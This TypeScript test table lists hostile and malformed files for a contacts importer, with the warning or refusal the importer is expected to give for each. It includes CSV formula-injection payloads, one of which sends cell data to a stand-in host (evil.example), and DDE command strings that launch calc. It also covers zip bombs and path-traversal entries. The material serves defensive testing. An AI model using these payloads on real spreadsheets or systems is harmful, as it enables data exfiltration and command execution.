// The corpus table: each hostile file with the exact outcome a user must see. Files live in files/ (committed) or
// are built by generate-corpus.ts (binary, large or sparse).
import { join } from 'node:path';
import type { ImportRequest } from '../../src/app/import-contacts.ts';
import type { ErrorCode } from '../../src/core/errors.ts';

type Issue = readonly ['error' | 'warning' | 'info', number | null, string | null, string];
export type Expected =
  | { refused: ErrorCode; message: string[] }
  | { counts: [added: number, updated: number, unchanged: number, skipped: number]; issues: Issue[]; people?: string[] };

export interface CorpusCase {
  file: string;
  importer: 'linkedin-csv' | 'linkedin-zip' | 'google' | 'outlook' | 'vcard' | 'generic';
  what: string;
  generated?: boolean;
  request?: Partial<ImportRequest>;
  /** For cases that are not a corpus file (a missing path, a folder). */
  path?: (folder: string) => string;
  expect: Expected;
}

const W = (line: number | null, field: string | null, reason: string): Issue => ['warning', line, field, reason];
const E = (line: number | null, field: string | null, reason: string): Issue => ['error', line, field, reason];
const I = (line: number | null, field: string | null, reason: string): Issue => ['info', line, field, reason];
/** The note a CSV detected as no known export gets: it was read as a generic CSV, and how. */
const GENERIC_NOTE: Issue = ['info', null, null, 'read as a generic CSV (it is not a LinkedIn, Google or Outlook export)'];
const refused = (code: ErrorCode, ...message: string[]): Expected => ({ refused: code, message });
const accepted = (counts: [number, number, number, number], issues: Issue[], people?: string[]): Expected => ({ counts, issues, people });

const THREE = ['Ada|Lovelace|Analytical Engines Ltd', 'Grace|Hopper|US Navy', 'José|Müller|Café Zürich GmbH'];
const TWO = THREE.slice(0, 2);
const FORMULA = 'looks like a spreadsheet formula';
const UNCLOSED = 'a quoted field opened on this line is never closed';
const NOT_LINKEDIN_ZIP = 'this ZIP is not a LinkedIn data export';
const NO_PERSON = 'cannot name a person';
const NOT_1252 = 'the file is not UTF-8; it was read as Windows-1252';

const linkedin: CorpusCase[] = [
  { file: 'connections-valid-with-preamble.csv', importer: 'linkedin-csv', what: 'the baseline: LinkedIn preamble, CRLF', expect: accepted([3, 0, 0, 0], [], THREE) },
  { file: 'connections-no-preamble-lf.csv', importer: 'linkedin-csv', what: 'no preamble, LF endings', expect: accepted([3, 0, 0, 0], [], THREE) },
  { file: 'connections-utf8-bom.csv', importer: 'linkedin-csv', what: 'UTF-8 with BOM', expect: accepted([3, 0, 0, 0], [], THREE) },
  { file: 'connections-utf16le-bom.csv', importer: 'linkedin-csv', what: 'UTF-16 LE with BOM', expect: accepted([3, 0, 0, 0], [], THREE) },
  { file: 'connections-utf16le-no-bom.csv', importer: 'linkedin-csv', what: 'UTF-16 LE without BOM', expect: accepted([3, 0, 0, 0], [], THREE) },
  { file: 'connections-utf16be-bom.csv', importer: 'linkedin-csv', what: 'UTF-16 BE with BOM', expect: accepted([3, 0, 0, 0], [], THREE) },
  { file: 'connections-utf16be-no-bom.csv', importer: 'linkedin-csv', what: 'UTF-16 BE without BOM', expect: accepted([3, 0, 0, 0], [], THREE) },
  {
    file: 'connections-windows-1252.csv', importer: 'linkedin-csv', what: 'Windows-1252 with curly quotes and accents',
    expect: accepted([4, 0, 0, 0], [W(null, null, NOT_1252)], [...THREE, 'Renée|O’Brien|Smith & Sons']),
  },
  { file: 'connections-mixed-line-endings.csv', importer: 'linkedin-csv', what: 'LF, CRLF and CR in one file', expect: accepted([3, 0, 0, 0], [], THREE) },
  { file: 'connections-cr-only.csv', importer: 'linkedin-csv', what: 'old Mac CR-only endings', expect: accepted([3, 0, 0, 0], [], THREE) },
  { file: 'connections-semicolon.csv', importer: 'linkedin-csv', what: 'semicolon-separated (Excel, European locale)', expect: accepted([3, 0, 0, 0], [], THREE) },
  { file: 'connections-tab-separated.tsv', importer: 'linkedin-csv', what: 'tab-separated', expect: accepted([3, 0, 0, 0], [], THREE) },
  { file: 'connections-unclosed-quote.csv', importer: 'linkedin-csv', what: 'a quote opened mid-file and never closed', expect: refused('IMPORT_REJECTED', 'connections-unclosed-quote.csv, line 6', UNCLOSED, 'Nothing was imported') },
  { file: 'connections-unclosed-quote-last-row.csv', importer: 'linkedin-csv', what: 'the last row opens a quote (file cut short)', expect: refused('IMPORT_REJECTED', 'connections-unclosed-quote-last-row.csv, line 4', UNCLOSED) },
  { file: 'connections-duplicate-headers.csv', importer: 'linkedin-csv', what: 'a header named twice', expect: accepted([3, 0, 0, 0], [W(1, 'Company', 'the column "Company" appears twice; the first one is used')], THREE) },
  { file: 'connections-header-only.csv', importer: 'linkedin-csv', what: 'preamble and header, no rows', expect: refused('IMPORT_REJECTED', 'connections-header-only.csv holds no contacts') },
  { file: 'connections-empty.csv', importer: 'linkedin-csv', what: 'zero bytes', expect: refused('IMPORT_REJECTED', 'connections-empty.csv: the file is empty') },
  { file: 'connections-blank-lines.csv', importer: 'linkedin-csv', what: 'only blank lines and empty fields', expect: refused('IMPORT_REJECTED', 'connections-blank-lines.csv: no column holds a name, email or LinkedIn URL; the headers are (none)') },
  { file: 'connections-preamble-only.csv', importer: 'linkedin-csv', what: 'the Notes preamble without the table', expect: refused('IMPORT_REJECTED', 'connections-preamble-only.csv: no column holds a name, email or LinkedIn URL; the headers are "Notes:"') },
  {
    file: 'connections-missing-required-column.csv', importer: 'linkedin-csv', what: '--source linkedin without "Connected On"', request: { source: 'linkedin' },
    expect: refused('IMPORT_REJECTED', 'connections-missing-required-column.csv: no header row with the columns "First Name", "Last Name", "Connected On"; is this a LinkedIn Connections.csv?'),
  },
  {
    file: 'connections-formula-injection.csv', importer: 'linkedin-csv', what: 'cells starting with = + - @ (CSV injection)',
    expect: accepted([3, 0, 0, 0], [W(3, 'First Name', FORMULA), W(3, 'Company', FORMULA), W(3, 'Position', FORMULA)], [
      'Ada|Lovelace|Analytical Engines Ltd', '=HYPERLINK("http://evil.example/?x="&A2;"click")|Hopper|+cmd|\' /C calc\'!A0', '-2+3+cmd|x|Smith|Acme',
    ]),
  },
  {
    file: 'connections-unquoted-comma.csv', importer: 'linkedin-csv', what: 'a comma inside an unquoted value',
    expect: accepted([2, 0, 0, 1], [E(3, null, 'the row has 8 fields but the header has 7; a comma inside a value is probably not quoted. Row skipped')], [THREE[0], THREE[2]]),
  },
  {
    file: 'connections-short-rows.csv', importer: 'linkedin-csv', what: 'a row with fewer fields than the header',
    expect: accepted([2, 0, 0, 0], [W(3, null, 'the row has 3 fields but the header has 7; the missing ones were read as empty')], [THREE[0], 'Grace|Hopper|']),
  },
  {
    file: 'connections-hidden-profiles.csv', importer: 'linkedin-csv', what: 'rows with only a date (hidden profiles)',
    expect: accepted([1, 0, 0, 2], [E(3, null, 'hidden profile'), E(4, null, 'hidden profile')], [THREE[0]]),
  },
  {
    file: 'connections-bad-dates-and-emails.csv', importer: 'linkedin-csv', what: '31 Feb, "yesterday", malformed emails',
    // One issue per column with the count and lines, not one per row.
    expect: accepted([2, 0, 0, 0], [
      W(2, 'Connected On', '"31 Feb 2021" is not a date; the connection date was left empty (2 rows of this column in all: lines 2, 3)'),
      W(2, 'Email Address', '"not-an-email" is not an email address; it was left out (2 rows of this column in all: lines 2, 3)'),
    ], TWO),
  },
  {
    file: 'connections-duplicate-people.csv', importer: 'linkedin-csv', what: 'the same person three times, spelled differently',
    expect: accepted([2, 0, 0, 2], [W(4, null, 'the same person as line 2 (Ada Lovelace); merged into one contact'), W(5, null, 'the same person as line 2 (Ada Lovelace)')], TWO),
  },
  { file: 'connections-binary.csv', importer: 'linkedin-csv', what: 'random binary bytes', expect: refused('IMPORT_REJECTED', 'connections-binary.csv: this is a binary file, not text') },
  { file: 'connections-nul-bytes-in-first-4kb.csv', importer: 'linkedin-csv', what: 'NUL bytes near the start', expect: refused('IMPORT_REJECTED', 'connections-nul-bytes-in-first-4kb.csv: this is a binary file') },
  {
    file: 'connections-nul-bytes-after-4kb.csv', importer: 'linkedin-csv', what: 'NUL and control bytes deep in a text file', generated: true,
    expect: accepted([151, 0, 0, 0], [W(null, null, 'the file holds 3 control characters (such as NUL) that are not text; they were removed')]),
  },
  {
    file: 'connections-stray-text-after-quote.csv', importer: 'linkedin-csv', what: 'text after a closing quote, doubled quotes',
    expect: accepted([1, 0, 0, 0], [], ['Adax|Lovelace|Analytical "Engines" Ltd']),
  },
  {
    file: 'connections-quoted-line-breaks.csv', importer: 'linkedin-csv', what: 'line breaks inside quoted fields; line numbers stay true',
    expect: accepted([2, 0, 0, 0], [], ['Ada\r\nAugusta|Lovelace|Analytical\nEngines', 'Grace|Hopper|US Navy']),
  },
  { file: 'connections-lone-quote-in-unquoted-field.csv', importer: 'linkedin-csv', what: 'a stray quote inside an unquoted value', expect: accepted([1, 0, 0, 0], [], ['Ada|O"Lovelace|Acme "Labs"']) },
  { file: 'connections-html-login-page.csv', importer: 'linkedin-csv', what: 'a LinkedIn login page saved as .csv', expect: refused('IMPORT_REJECTED', 'connections-html-login-page.csv: no column holds a name, email or LinkedIn URL; the headers are "<!DOCTYPE html>"') },
  {
    file: 'connections-excel-resaved.csv', importer: 'linkedin-csv', what: 'an export re-saved in Excel: "07-Feb-24" dates, NA and #N/A placeholders',
    expect: accepted([3, 0, 0, 0], [
      I(2, 'Email Address', '"N/A" is a spreadsheet placeholder, not a value; the cell was read as empty (3 rows of this column in all: lines 2, 3, 4)'),
      I(2, 'Position', '"#N/A" is a spreadsheet placeholder, not a value; the cell was read as empty (2 rows of this column in all: lines 2, 4)'),
      I(3, 'Company', '"NA" is a spreadsheet placeholder'),
    ], ['Ada|Lovelace|Analytical Engines Ltd', 'Grace|Hopper|', 'José|Müller|Café Zürich GmbH']),
  },
  { file: 'connections-2018-layout.csv', importer: 'linkedin-csv', what: 'the 2018 layout: no URL, "1/8/18, 6:14 PM" dates', expect: accepted([2, 0, 0, 0], [], TWO) },
  {
    file: 'connections-implausible-dates.csv', importer: 'linkedin-csv', what: 'a date before LinkedIn existed and two after today',
    expect: accepted([3, 0, 0, 0], [
      W(2, 'Connected On', '"12 Mar 1843" is before LinkedIn existed (2003-05-05); the date was kept as written'),
      W(3, 'Connected On', 'is after today (2026-11-25); a connection cannot date from the future, so the date was left empty (2 rows of this column in all: lines 3, 4)'),
    ], ['Ada|Lovelace|Analytical Engines Ltd', 'Grace|Hopper|US Navy', 'Alan|Turing|Bletchley Park']),
  },
  {
    file: 'connections-1mb-cell.csv', importer: 'linkedin-csv', what: 'a 1 MB cell', generated: true,
    expect: accepted([2, 0, 0, 0], [W(3, 'Position', 'the value is 1,048,576 characters long; only the first 65,536 were kept')], TWO),
  },
  {
    file: 'connections-5mb-unclosed-quote.csv', importer: 'linkedin-csv', what: 'an unclosed quote swallowing 5 MB (memory stays bounded)', generated: true,
    expect: refused('IMPORT_REJECTED', 'connections-5mb-unclosed-quote.csv, line 3: a field starting on this line is longer than 4,194,304 characters'),
  },
  { file: 'connections-3gb-sparse.csv', importer: 'linkedin-csv', what: 'a 3 GB file, refused by size before reading', generated: true, expect: refused('IMPORT_REJECTED', 'connections-3gb-sparse.csv is 3072 MB, more than the 2048 MB a contacts file can be') },
  { file: 'xlsx-saved-as-csv.csv', importer: 'linkedin-csv', what: 'an Excel workbook renamed .csv', generated: true, expect: refused('IMPORT_REJECTED', 'xlsx-saved-as-csv.csv: this ZIP is an Excel workbook (.xlsx)', 'save the sheet as CSV') },
];

const zips: CorpusCase[] = [
  { file: 'linkedin-export-valid.zip', importer: 'linkedin-zip', what: 'the baseline archive with a profile', generated: true, expect: accepted([2, 0, 0, 0], [], TWO) },
  { file: 'linkedin-export-nested-folder.zip', importer: 'linkedin-zip', what: 'files inside a top folder', generated: true, expect: accepted([2, 0, 0, 0], [], TWO) },
  { file: 'linkedin-export-utf16-entry.zip', importer: 'linkedin-zip', what: 'a UTF-16 Connections.csv inside', generated: true, expect: accepted([2, 0, 0, 0], [], TWO) },
  {
    file: 'linkedin-export-broken-connections.zip', importer: 'linkedin-zip', what: 'a damaged Connections.csv next to a good Profile.csv', generated: true,
    expect: accepted([0, 0, 0, 1], [E(2, null, UNCLOSED)], []),
  },
  { file: 'linkedin-export-urn-invitations.zip', importer: 'linkedin-zip', what: '2023+ invitations with member URNs, no URLs', generated: true, expect: accepted([2, 0, 0, 0], [], TWO) },
  { file: 'linkedin-export-2018.zip', importer: 'linkedin-zip', what: 'a 2018 export: names-only invitations and messages, UTF-16 tab-separated Shares.csv', generated: true, expect: accepted([2, 0, 0, 0], [], TWO) },
  {
    file: 'linkedin-export-contacts.zip', importer: 'linkedin-zip', what: "Contacts.csv: a connection's email joins it, a stranger is someone the member knows", generated: true,
    expect: accepted([3, 0, 0, 0], [], [...TWO, 'Alan|Turing|']),
  },
  {
    file: 'zip-connections-candidates.zip', importer: 'linkedin-zip', what: 'Connections.csv, connections.csv and old/Connections.csv', generated: true,
    expect: accepted([2, 0, 0, 0], [W(null, null, 'the export holds 3 files that could be Connections.csv: "Connections.csv" (read), "connections.csv", "old/Connections.csv"; only "Connections.csv" was read')], TWO),
  },
  { file: 'zip-truncated.zip', importer: 'linkedin-zip', what: 'cut in half', generated: true, expect: refused('IMPORT_REJECTED', 'zip-truncated.zip: the ZIP archive is damaged or truncated') },
  { file: 'zip-bomb-ratio.zip', importer: 'linkedin-zip', what: '16 KB inflating to 16 MB (ratio 1,024)', generated: true, expect: refused('IMPORT_REJECTED', 'zip-bomb-ratio.zip: the entry "Connections.csv" would expand 1,024x to 16,777,216 bytes; this looks like a zip bomb') },
  {
    file: 'zip-bomb-declared-size.zip', importer: 'linkedin-zip', what: 'declares 1.5 GB at a modest ratio', generated: true,
    expect: refused('IMPORT_REJECTED', 'zip-bomb-declared-size.zip: the entry "messages.csv" would unpack to 1,500,000,000 bytes, more than the 100 MB one file of an export may be'),
  },
  {
    file: 'zip-bomb-lying-size.zip', importer: 'linkedin-zip', what: 'declares 300 bytes, holds 16 MB', generated: true,
    expect: refused('IMPORT_REJECTED', 'zip-bomb-lying-size.zip:Connections.csv: the entry holds more than the 300 bytes its header declares', 'inflating stopped there'),
  },
  { file: 'zip-bomb-many-entries.zip', importer: 'linkedin-zip', what: '10,001 entries', generated: true, expect: refused('IMPORT_REJECTED', 'zip-bomb-many-entries.zip: the archive has more than 10,000 entries') },
  { file: 'zip-nested-zip.zip', importer: 'linkedin-zip', what: 'an export zipped inside a zip', generated: true, expect: refused('IMPORT_REJECTED', `zip-nested-zip.zip: ${NOT_LINKEDIN_ZIP}`) },
  {
    file: 'zip-path-traversal.zip', importer: 'linkedin-zip', what: '../, absolute and drive-letter entry names next to a good one', generated: true,
    expect: accepted([2, 0, 0, 0], [W(null, null, 'points outside the archive'), W(null, null, 'points outside the archive'), W(null, null, 'points outside the archive')], TWO),
  },
  { file: 'zip-path-traversal-only.zip', importer: 'linkedin-zip', what: 'only a ../Connections.csv entry', generated: true, expect: refused('IMPORT_REJECTED', `zip-path-traversal-only.zip: ${NOT_LINKEDIN_ZIP}`, '1 entry with a name pointing outside the archive was ignored') },
  { file: 'zip-empty.zip', importer: 'linkedin-zip', what: 'an archive with no entries', generated: true, expect: refused('IMPORT_REJECTED', `zip-empty.zip: ${NOT_LINKEDIN_ZIP}`) },
  { file: 'zip-not-linkedin.zip', importer: 'linkedin-zip', what: 'holiday photos', generated: true, expect: refused('IMPORT_REJECTED', `zip-not-linkedin.zip: ${NOT_LINKEDIN_ZIP}`) },
  {
    file: 'zip-duplicate-entry-names.zip', importer: 'linkedin-zip', what: 'two entries named Connections.csv', generated: true,
    expect: accepted([2, 0, 0, 0], [W(null, null, 'the archive holds two entries with this name; the first one was read')], TWO),
  },
  { file: 'zip-1.5gb-sparse.zip', importer: 'linkedin-zip', what: 'a 1.5 GB archive, refused by size', generated: true, expect: refused('IMPORT_REJECTED', 'zip-1.5gb-sparse.zip is 1536 MB, more than the 1024 MB a contacts archive can be') },
  {
    file: 'linkedin-export-valid.zip', importer: 'linkedin-zip', what: '--source google on an archive', generated: true, request: { source: 'google' },
    expect: refused('INVALID_INPUT', 'linkedin-export-valid.zip is a ZIP archive; only --source linkedin reads archives'),
  },
];

const GOOGLE_SKIP = 'the contact has no name, email or phone, so it cannot name a person; skipped';
const google: CorpusCase[] = [
  { file: 'google-valid.csv', importer: 'google', what: 'the baseline, with ::: multi-values', expect: accepted([2, 0, 0, 0], [], ['Ada|Lovelace|Analytical Engines', 'Acme|Support|Acme']) },
  {
    file: 'google-no-person-rows.csv', importer: 'google', what: 'rows with labels or notes but no person',
    expect: accepted([1, 0, 0, 2], [E(2, null, GOOGLE_SKIP), E(3, null, GOOGLE_SKIP)], ['Grace|Hopper|US Navy']),
  },
  {
    file: 'google-bad-emails.csv', importer: 'google', what: 'junk among ::: separated emails',
    // Two bad values in one cell are one row to fix: one issue for the column.
    expect: accepted([1, 0, 0, 0], [W(2, 'E-mail 1 - Value', '"not an email" is not an email address')], ['Ada|Lovelace|']),
  },
  {
    file: 'google-formula-injection.csv', importer: 'google', what: 'formulas in company, title and notes',
    expect: accepted([1, 0, 0, 0], [W(2, 'Organization Name', FORMULA), W(2, 'Organization Title', FORMULA), W(2, 'Notes', FORMULA)], ['Ada|Lovelace|=cmd|\'/C calc\'!A0']),
  },
  { file: 'google-unclosed-quote.csv', importer: 'google', what: 'a note that never closes its quote', expect: refused('IMPORT_REJECTED', 'google-unclosed-quote.csv, line 2', UNCLOSED) },
  { file: 'google-header-only.csv', importer: 'google', what: 'header, no contacts', expect: refused('IMPORT_REJECTED', 'google-header-only.csv holds no contacts') },
  {
    file: 'outlook-csv-read-as-google.csv', importer: 'google', what: 'an Outlook CSV forced through --source google', request: { source: 'google' },
    expect: refused('IMPORT_REJECTED', 'outlook-csv-read-as-google.csv: this is an Outlook CSV (it has "E-mail Address", not "E-mail 1 - Value")'),
  },
];

const outlook: CorpusCase[] = [
  { file: 'outlook-utf16le-bom.csv', importer: 'outlook', what: 'UTF-16 LE as Outlook writes it', expect: accepted([1, 0, 0, 0], [], ['Zoë|Ångström|Café Zürich']) },
  {
    file: 'outlook-exchange-addresses.csv', importer: 'outlook', what: 'Exchange X.500 paths instead of emails',
    expect: accepted([2, 0, 0, 0], [W(2, 'E-mail 2 Address', '"not-an-address" is not an email address'), W(3, 'E-mail Address', 'is an internal Exchange address, not an email')], ['Ada|Lovelace, PhD|Analytical Engines', 'Grace|Hopper|US Navy']),
  },
  {
    file: 'outlook-german-headers.csv', importer: 'outlook', what: 'German column names with --source outlook', request: { source: 'outlook' },
    expect: refused('IMPORT_REJECTED', 'outlook-german-headers.csv: no header row with the columns "First Name", "Last Name", "E-mail Address"', 'import the file as a generic CSV with a column mapping'),
  },
  { file: 'outlook-no-person-rows.csv', importer: 'outlook', what: 'a company-only row', expect: accepted([1, 0, 0, 1], [E(2, null, GOOGLE_SKIP)], ['Ada|Lovelace|']) },
  { file: 'outlook-unclosed-quote.csv', importer: 'outlook', what: 'notes that never end', expect: refused('IMPORT_REJECTED', 'outlook-unclosed-quote.csv, line 2', UNCLOSED) },
  {
    file: 'outlook-duplicate-headers.csv', importer: 'outlook', what: '"E-mail Address" twice',
    expect: accepted([1, 0, 0, 0], [W(1, 'E-mail Address', 'the column "E-mail Address" appears twice')], ['Ada|Lovelace|Analytical Engines']),
  },
];

const vcards: CorpusCase[] = [
  { file: 'vcard-valid.vcf', importer: 'vcard', what: 'the baseline 3.0 card', expect: accepted([1, 0, 0, 0], [], ['Ada|Lovelace|Analytical Engines']) },
  {
    file: 'vcard-broken-folding-no-space.vcf', importer: 'vcard', what: 'continuation lines that lost their leading space',
    expect: accepted([1, 0, 0, 1], [E(1, null, 'the card starting on this line could not be read (line 6: "the leading space on its continuation lines" is not a property, it has no ":"; a folded line may have lost its leading space)')], ['Grace|Hopper|']),
  },
  { file: 'vcard-folded-inside-utf8-character.vcf', importer: 'vcard', what: 'folded every 75 octets, inside multi-byte characters', expect: accepted([1, 0, 0, 0], [], ['Zoë|Ångström|']) },
  { file: 'vcard-folded-tab-and-lf.vcf', importer: 'vcard', what: 'folds with tabs and bare LF', expect: accepted([1, 0, 0, 0], [], ['Ada|Lovelace|AnalyticalEngines']) },
  { file: 'vcard-truncated.vcf', importer: 'vcard', what: 'the second card cut short', expect: accepted([1, 0, 0, 1], [E(6, null, 'the card starting on this line has no END:VCARD (is the file cut short?)')], ['Ada|Lovelace|']) },
  { file: 'vcard-not-a-vcard.vcf', importer: 'vcard', what: 'plain text named .vcf', expect: refused('IMPORT_REJECTED', 'vcard-not-a-vcard.vcf: there is no BEGIN:VCARD in the file') },
  { file: 'vcard-empty-card.vcf', importer: 'vcard', what: 'a card with nothing in it', expect: accepted([1, 0, 0, 1], [E(1, null, 'the card has no name, organisation, email or phone')], ['Grace|Hopper|']) },
  { file: 'vcard-nested-begin.vcf', importer: 'vcard', what: 'BEGIN:VCARD inside a card', expect: accepted([1, 0, 0, 1], [E(1, null, 'has no END:VCARD')], ['Inner|Card|']) },
  {
    file: 'vcard-garbage-line.vcf', importer: 'vcard', what: 'a line that is no property',
    expect: accepted([1, 0, 0, 1], [E(1, null, 'the card starting on this line could not be read (line 4: "this line is not a property at all" is not a property')], ['Grace|Hopper|']),
  },
  { file: 'vcard-utf16le-bom.vcf', importer: 'vcard', what: 'UTF-16 LE with BOM', expect: accepted([1, 0, 0, 0], [], ['Zoë|Ångström|']) },
  { file: 'vcard-windows-1252.vcf', importer: 'vcard', what: 'Windows-1252', expect: accepted([1, 0, 0, 0], [W(null, null, NOT_1252)], ['José|Müller|Café Zürich']) },
  { file: 'vcard-bad-email.vcf', importer: 'vcard', what: 'an email written out in words', expect: accepted([1, 0, 0, 0], [W(1, 'EMAIL', '"ada at example dot com" is not an email address')], ['Ada|Lovelace|']) },
  { file: 'vcard-v21-quoted-printable.vcf', importer: 'vcard', what: 'vCard 2.1 quoted-printable with a soft line break', expect: accepted([1, 0, 0, 0], [], ['José|Müller|']) },
  { file: 'vcard-150mb-sparse.vcf', importer: 'vcard', what: 'a 150 MB vCard, refused by size', generated: true, expect: refused('IMPORT_REJECTED', 'vcard-150mb-sparse.vcf is 150 MB, more than the 100 MB a contacts file can be') },
];

// A CSV that is no known export is read as a generic CSV with a note saying so and which columns were used.
const generic: CorpusCase[] = [
  { file: 'generic-crm-valid.csv', importer: 'generic', what: 'a CRM export, "Last, First" names', expect: accepted([2, 0, 0, 0], [GENERIC_NOTE], ['Ada|Lovelace|Analytical Engines', 'Grace|Hopper|US Navy']) },
  {
    file: 'generic-semicolons-inside-quoted-notes.csv', importer: 'generic', what: 'quoted notes full of ";" must not make ";" the delimiter',
    expect: accepted([2, 0, 0, 0], [GENERIC_NOTE], ['Ada|Lovelace|Analytical Engines', 'Grace|Hopper|US Navy']),
  },
  { file: 'generic-no-identity-columns.csv', importer: 'generic', what: 'no name, email or URL column', expect: refused('IMPORT_REJECTED', 'generic-no-identity-columns.csv: no column holds a name, email or LinkedIn URL; the headers are "Employer", "Role", "Notes"') },
  {
    file: 'generic-map-missing-column.csv', importer: 'generic', what: '--map naming columns the file lacks', request: { map: 'Name=Name,Email=E-mail,Company=Employer' },
    expect: refused('IMPORT_REJECTED', 'generic-map-missing-column.csv: the mapped columns "E-mail", "Employer" are not in the file; its headers are "Name", "Mail", "Org"'),
  },
  { file: 'generic-map-missing-column.csv', importer: 'generic', what: '--map without "="', request: { map: 'Company' }, expect: refused('INVALID_INPUT', '"Company" is not a mapping; write OUR_FIELD=THEIR_COLUMN') },
  { file: 'generic-map-missing-column.csv', importer: 'generic', what: '--map with an unknown field', request: { map: 'Shoe Size=Org' }, expect: refused('INVALID_INPUT', '"Shoe Size" (in "Shoe Size=Org") is not a field we know') },
  {
    file: 'generic-rows-without-identity.csv', importer: 'generic', what: 'rows with only a company, or nothing',
    expect: accepted([1, 0, 0, 2], [GENERIC_NOTE, E(3, null, 'the row has no name, email, phone or LinkedIn URL'), W(5, 'Email', '"not-an-email" is not an email address'), E(5, null, 'the row has no name, email, phone or LinkedIn URL')], ['Ada|Lovelace|Analytical Engines']),
  },
  { file: 'generic-formula-injection.csv', importer: 'generic', what: 'formulas in name, company, notes', expect: accepted([1, 0, 0, 0], [GENERIC_NOTE, W(2, 'Name', FORMULA), W(2, 'Company', FORMULA), W(2, 'Notes', FORMULA)], ['=1+2||@evil']) },
  { file: 'generic-mixed-line-endings.csv', importer: 'generic', what: 'CRLF, LF and CR mixed', expect: accepted([3, 0, 0, 0], [GENERIC_NOTE], ['Ada|Lovelace|', 'Grace|Hopper|', 'Alan|Turing|']) },
  { file: 'generic-unclosed-quote.csv', importer: 'generic', what: 'a note that opens a quote', expect: refused('IMPORT_REJECTED', 'generic-unclosed-quote.csv, line 2', UNCLOSED) },
  { file: 'generic-duplicate-headers.csv', importer: 'generic', what: '"Email" twice', expect: accepted([1, 0, 0, 0], [W(1, 'Email', 'the column "Email" appears twice'), GENERIC_NOTE], ['Ada|Lovelace|Analytical Engines']) },
  { file: 'generic-header-only.csv', importer: 'generic', what: 'header only', expect: refused('IMPORT_REJECTED', 'generic-header-only.csv holds no contacts') },
  {
    file: 'generic-bad-urls.csv', importer: 'generic', what: 'LinkedIn column holding other sites and a company page',
    expect: accepted([3, 0, 0, 0], [GENERIC_NOTE, W(2, 'LinkedIn', '"https://example.com/in/ada" is not a LinkedIn profile URL (linkedin.com/in/...); it was left out (2 rows of this column in all: lines 2, 3)')], ['Ada|Lovelace|', 'Grace|Hopper|', 'Alan|Turing|']),
  },
  { file: 'generic-utf16be-no-bom.csv', importer: 'generic', what: 'UTF-16 BE without BOM', expect: accepted([1, 0, 0, 0], [GENERIC_NOTE], ['Zoë|Ångström|']) },
  { file: 'generic-path-traversal-values.csv', importer: 'generic', what: 'path-like values are just text', expect: accepted([1, 0, 0, 0], [GENERIC_NOTE], ['../../etc/passwd||']) },
  {
    file: 'generic-1mb-notes.csv', importer: 'generic', what: 'a 1 MB quoted note with commas and line breaks', generated: true,
    expect: accepted([2, 0, 0, 0], [GENERIC_NOTE, W(2, 'Notes', 'the value is 1,048,576 characters long; only the first 65,536 were kept')], ['Ada|Lovelace|', 'Grace|Hopper|']),
  },
  { file: 'generic-5mb-single-line.csv', importer: 'generic', what: 'a 5 MB unquoted field', generated: true, expect: refused('IMPORT_REJECTED', 'generic-5mb-single-line.csv, line 2: a field starting on this line is longer than 4,194,304 characters') },
  { file: '(missing file)', importer: 'generic', what: 'a path that does not exist', path: (folder) => join(folder, 'nope.csv'), expect: refused('NOT_FOUND', 'nope.csv: no such file or folder') },
  { file: '(empty folder)', importer: 'linkedin-csv', what: 'a folder without export files', path: (folder) => join(folder, 'empty-folder'), expect: refused('UNSUPPORTED_FORMAT', 'is a folder without LinkedIn export files') },
];

export const CASES: CorpusCase[] = [...linkedin, ...zips, ...google, ...outlook, ...vcards, ...generic];
